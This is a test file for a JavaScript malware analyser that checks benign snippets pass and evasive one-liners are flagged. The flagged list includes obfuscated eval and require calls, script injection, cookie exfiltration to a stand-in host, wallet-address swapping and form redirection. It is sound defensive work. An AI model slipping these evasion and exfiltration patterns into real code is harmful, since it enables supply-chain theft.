import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { readJs } from '../../../src/analyze/js/index.ts'
import { parseJs } from '../../../src/analyze/js/parse.ts'
import { analyseProgram } from '../../../src/analyze/js/program.ts'
import { harm } from '../exam/harm.ts'
import { loaders } from '../exam/loaders.ts'
import { stealers } from '../exam/stealers.ts'
import { exams, packagesIn } from '../exam/txtar.ts'
import { wallets } from '../exam/wallets.ts'
import { worms } from '../exam/worms.ts'
import { incidents } from './incidents.ts'
import { techniques } from './techniques.ts'

/** Honest shapes in which nothing acts, each with something in it that could. */
const quiet: Readonly<Record<string, string>> = {
  'a wrapper for all loaders': `(function (root, factory) {
    typeof exports === 'object' ? module.exports = factory() : typeof define === 'function' ? define(factory) : root.lib = factory()
  })(typeof globalThis !== 'undefined' ? globalThis : this, function () { return { add: (a, b) => a + b } })`,
  'the environment asked': `if (process.env.NODE_ENV !== 'production') console.warn('slow', process.version)`,
  'a way to the world for a name': `var root = typeof self == 'object' && self || Function('return this')(); root.MyLib = {}`,
  'timers of functions': `export const later = (fn) => setTimeout(fn, 0); setTimeout(() => {}, 1)`,
  'an element of a page': `export const button = (text) => { const it = document.createElement('button'); it.textContent = text; return it }`,
  'a word of a language': `const keywords = { constructor: 1, eval: 2, fetch: 3 }; exports.is = (word) => keywords[word] === 2`,
  'a copy by its constructor': `exports.copy = (one) => new one.constructor(one)`,
  'a picture': `exports.show = (place) => { const image = document.createElement('img'); image.src = place; return image }`,
  'another package': `import { useState } from 'react'; export const useOpen = () => useState(false)`,
  'the place of a page': `export const query = () => new URLSearchParams(window.location.search)`,
}
for (const [name, text] of Object.entries(quiet))
  test(`quiet: ${name}`, () => {
    assert.is(readJs(text, 'a.js').isQuiet, true)
  })

/** Ways to what acts; none of them may be taken for quiet. */
const busy: readonly string[] = [
  `globalThis['fet' + 'ch']('https://a.invalid')`,
  `const g = globalThis, k = ['fe', 'tch'].join(''); g[k]('https://a.invalid')`,
  `(function (g) { g[String.fromCharCode(101, 118, 97, 108)]('1') })(this)`,
  `(function (g) { const { fetch: f } = g; f('https://a.invalid') })(globalThis)`,
  `const own = (function () { return this })(); const get = (k) => own[k]; get('eval')('1')`,
  `function get(k) { return this[k] } get('fetch')('https://a.invalid')`,
  `Reflect.get(globalThis, 'eval')('1')`,
  `(() => {}).constructor('return 1')()`,
  `const f = () => {}; f['const' + 'ructor']('return 1')()`,
  `const f = () => {}, k = 'constructor'; f[k]('return 1')()`,
  `const d = (s) => s.split('').reverse().join(''); (() => {})[d('rotcurtsnoc')]('return 1')()`,
  `Object.getPrototypeOf(async () => {}).constructor('return 1')()`,
  `Function.prototype.constructor(code)()`,
  `''.sub.constructor.constructor('return 1')()`,
  `arguments[1]('fs')`,
  `(() => { const [, load] = arguments; load('child_process') })()`,
  `const m = module; m.require('fs')`,
  `module.constructor._load('fs')`,
  `process.mainModule.require('fs')`,
  `process['bind' + 'ing']('spawn_sync')`,
  `const p = process; p.binding('spawn_sync')`,
  `const g = global; g.process.binding('spawn_sync')`,
  `const r = require; r('fs')`,
  `require('f' + 's')`,
  `import('data:text/javascript,1')`,
  `import { createRequire } from 'node:module'; createRequire(import.meta.url)('fs')`,
  `import.meta.require('fs')`,
  `const { exec } = require('child_process')`,
  'eval`1`',
  `setTimeout('code()', 1)`,
  `const code = 'alert(1)'; setTimeout(code, 1)`,
  `const w = window; w.location = 'https://a.invalid'`,
  `const w = window; w.location.replace('https://a.invalid')`,
  `const w = window; w.open('https://a.invalid')`,
  `const d = document; d.write('<script src="//a.invalid/x.js"></script>')`,
  `const s = document.createElement('script'); s.src = '//a.invalid/x.js'`,
  `const add = (place) => { document.createElement('script').src = place }; add('https://a.invalid/x.js')`,
  `const s = document.createElement('script'); s.src = 'ht' + 'tps://' + host`,
  `document.body.innerHTML = '<iframe src="https://a.invalid"></iframe>'`,
  `new Image().src = 'https://a.invalid/?' + document.cookie`,
  `const i = document.createElement('img'); i.src = base + document.cookie`,
  `Array.prototype.map = function () {}`,
  `const p = String.prototype; p.replace = (x) => x`,
  `Object.defineProperty(Object.prototype, 'then', { get() {} })`,
  `text.replace(/0x[a-fA-F0-9]{40}/g, mine)`,
  `require('some-mailer').send({ to, bcc: 'a@mail.invalid' })`,
  `[]['constructor']['constructor']('return 1')()`,
  `const k = 'constructor'; [][k][k]('return 1')()`,
  `process.env.HTTPS_PROXY = 'http://a.invalid'`,
  `const { env } = process; env['http_' + 'proxy'] = 'http://a.invalid'`,
  `const c = require('crypto'); c.createHmac = mine`,
  `import * as c from 'crypto'; c.createHmac = mine`,
  `Bun.$\`id\``,
  `const { $ } = require('zx'); $\`id\``,
  `new RTCPeerConnection({})`,
  `document.querySelector('form').action = 'https://a.invalid/'`,
  `document.title.href = 'https://a.invalid/?' + document.querySelector('#pin').value`,
  `const { launch } = require('some-browser'); launch({})`,
]
for (const text of busy)
  test(`not quiet: ${text}`, () => {
    assert.is(readJs(text, 'a.js').isQuiet, undefined)
  })

test('nothing is lost in what is taken for quiet: every file of every incident and of its honest likes', () => {
  let count = 0
  const unseen = exams.flatMap(({ name, kinds }) => kinds.flatMap((kind) => packagesIn(`${name}/${kind}`)))
  const fixtures = [...techniques, ...incidents, ...harm, ...loaders, ...stealers, ...wallets, ...worms].flatMap(
    ({ hostile, honest }) => (honest ? [hostile, honest] : [hostile]),
  )
  for (const { files } of [...fixtures, ...unseen]) {
    for (const [path, text] of Object.entries(files)) {
      const read = /\.[cm]?js$/u.test(path) ? readJs(text, path) : undefined
      const { program } = read?.isQuiet ? parseJs(text) : {}
      if (!read || !program) continue
      count++
      const whole = analyseProgram(program, { text, path, power: 'busy', mayBeQuiet: false }, () => undefined)
      assert.equal(
        read.signals,
        whole.signals.filter(({ kind }) => kind !== 'code/uses'),
        text,
      )
      assert.equal(read.references, whole.references, text)
      assert.equal(read.commands, whole.commands, text)
    }
  }
  assert.ok(count >= 20, `${count} files are quiet`)
})

test.run()
